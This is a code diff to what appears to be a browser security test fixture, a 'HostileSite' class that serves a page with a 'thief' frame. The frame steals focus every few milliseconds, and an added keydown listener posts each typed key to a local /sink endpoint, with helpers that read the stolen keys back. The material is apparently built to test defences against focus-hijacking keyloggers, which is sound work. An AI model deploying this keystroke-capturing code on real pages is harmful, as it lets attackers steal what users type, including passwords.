@@ -22,6 +22,8 @@ setInterval(async () => { const all = await (await fetch("/messages")).json(); f
 const thief = `<!doctype html><html><head><meta charset="utf-8"><script src="/spy.js" data-where="thief"></script></head><body><input id="thief"><script>
 const take = () => { window.focus(); document.querySelector("#thief").focus(); };
 setInterval(take, 4); addEventListener("blur", take); take();
+// The frame may be gone before the spy delivers.
+addEventListener("keydown", ({ key }) => fetch("/sink", { method: "POST", keepalive: true, body: "thief now keydown " + key }), true);
 </script></body></html>`;
 
 async function bodyOf(request: IncomingMessage): Promise<string> {
@@ -83,10 +85,17 @@ export class HostileSite {
 	}
 
 	/** Keys that the page or the thief heard of since `from` (an index into the sink), in order. */
-	keysSince(from: number): string {
+	keysSince(from: number, where: "page" | "page|thief" = "page|thief"): string {
+		const types = "keydown|keypress|keyup|beforeinput|input|textInput";
 		const heard = this.sink
 			.slice(from)
-			.matchAll(/^(?:page|thief) (?:event|child) (?:keydown|keypress|keyup|beforeinput|input|textInput) (\S*)/gm);
+			.matchAll(new RegExp(`^(?:${where}) (?:event|child|now) (?:${types}) (\\S*)`, "gm"));
+		return [...heard].map(([, key]) => key ?? "").join("");
+	}
+
+	/** What was typed into the thief's frame since then, each letter once. */
+	stolenSince(from: number): string {
+		const heard = this.sink.slice(from).matchAll(/^thief now keydown (\S)$/gm);
 		return [...heard].map(([, key]) => key ?? "").join("");
 	}
 
